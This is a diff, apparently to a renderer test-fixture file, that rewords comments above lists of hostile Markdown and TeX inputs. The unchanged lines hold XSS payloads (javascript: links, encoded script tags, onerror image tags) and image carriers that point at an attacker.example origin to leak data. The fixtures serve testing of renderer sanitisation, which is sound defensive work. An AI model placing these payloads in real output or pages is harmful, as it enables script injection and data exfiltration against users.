@@ -1,4 +1,4 @@
-/** Twelve ways to make a renderer fetch an address by itself. */
+/** Twelve ways to make a renderer fetch an address on its own. */
 export const IMAGE_CARRIERS = (origin: string): readonly string[] => [
   `![inline](${origin}/1.png?secret=1)`,
   `![reference][pic]\n\n[pic]: ${origin}/2.png`,
@@ -14,7 +14,7 @@ export const IMAGE_CARRIERS = (origin: string): readonly string[] => [
   `${origin}/12.png and $\\color{url(${origin}/13)}{x}$`,
 ];
 
-/** Addresses that try to run something, to leave the app, or to look like another one. */
+/** Addresses that try to run something, to leave the app, or to look like another address. */
 export const HOSTILE_HREFS: readonly string[] = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -86,7 +86,7 @@ const SCRIPTS = [
   '&#60;script&#62;__pwn()&#60;/script&#62;',
 ];
 
-/** Each script in each place that Markdown has for text. */
+/** Each script in every position where Markdown allows text. */
 export const XSS_PAYLOADS: readonly string[] = SCRIPTS.flatMap((script) => [
   script,
   `**${script}**`,
@@ -96,7 +96,7 @@ export const XSS_PAYLOADS: readonly string[] = SCRIPTS.flatMap((script) => [
   `$\\text{${script.replace(/[$\\{}]/g, '')}}$`,
 ]);
 
-/** Formulas that would be links, styles, scripts or new commands in a TeX that allows them. */
+/** Formulas that would be links, styles, scripts or new commands if TeX allowed them. */
 export const HOSTILE_TEX: readonly string[] = [
   '$\\href{javascript:__pwn()}{x}$',
   '$\\url{javascript:__pwn()}$',
@@ -111,7 +111,7 @@ export const HOSTILE_TEX: readonly string[] = [
   '$\\unicode[x]{60}\\char60 script\\char62$',
 ];
 
-/** Everything there is room for in one message. */
+/** One message with all of the above. */
 export const HOSTILE_MESSAGE = [
   ...SCRIPTS,
   ...HOSTILE_HREFS.map((href, n) => `[a link ${n}](${href})`),
@@ -120,5 +120,5 @@ export const HOSTILE_MESSAGE = [
   ...IMAGE_CARRIERS('https://attacker.example'),
 ].join('\n\n');
 
-/** What fits into a name. */
+/** Hostile text that is short enough for a name. */
 export const HOSTILE_NAME = `"><img src=https://attacker.example/n onerror=__pwn()><script>__pwn()</script>[x](javascript:__pwn())`;
